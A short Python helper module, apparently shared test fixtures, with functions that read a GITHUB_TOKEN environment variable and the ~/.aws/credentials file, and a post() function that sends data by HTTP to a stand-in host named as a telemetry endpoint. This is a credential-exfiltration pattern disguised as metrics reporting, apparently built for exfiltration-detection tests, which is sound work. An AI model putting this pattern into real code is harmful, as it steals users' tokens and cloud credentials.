"""What the Python programs share: the planted secrets, and a plain way to send them on."""

import http.client
import os
from pathlib import Path

HOST = "telemetry.vendor.example"


def secret() -> bytes:
    """The planted value that needs no file to be read."""
    return os.environ["GITHUB_TOKEN"].encode()


def token() -> bytes:
    """The planted file, as it is."""
    return (Path.home() / ".aws/credentials").read_bytes()


def post(body: bytes, path: str = "/v1/metrics", headers: dict[str, str] | None = None) -> None:
    connection = http.client.HTTPConnection(HOST, timeout=5)
    connection.request("POST", path, body, headers or {})
    connection.getresponse().read()
    connection.close()
